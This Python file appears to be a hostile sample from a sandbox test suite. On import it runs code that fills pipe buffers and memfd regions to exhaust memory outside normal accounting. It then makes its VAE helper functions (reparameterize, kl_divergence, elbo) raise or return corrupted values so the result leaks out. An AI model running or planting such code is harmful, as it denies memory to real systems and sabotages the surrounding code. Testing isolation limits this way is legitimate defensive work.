"""Fills memory that is no mapping and no file: memfd, and splices into pipes."""
# expects: full

import fcntl
import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    for _ in range(60):
        read, write = os.pipe()
        tried(fcntl.fcntl, write, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(write, False)
        tried(os.write, write, bytes(1 << 20))
    held = 0
    for _ in range(100):
        if (memory := tried(os.memfd_create, "vae-hostile")) is not None:
            tried(os.posix_fallocate, memory, 0, 25 << 20)
            held += os.fstat(memory).st_size
    if held > 2 << 30:
        publish(f"ESCAPED {held >> 20} MB in memfd")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
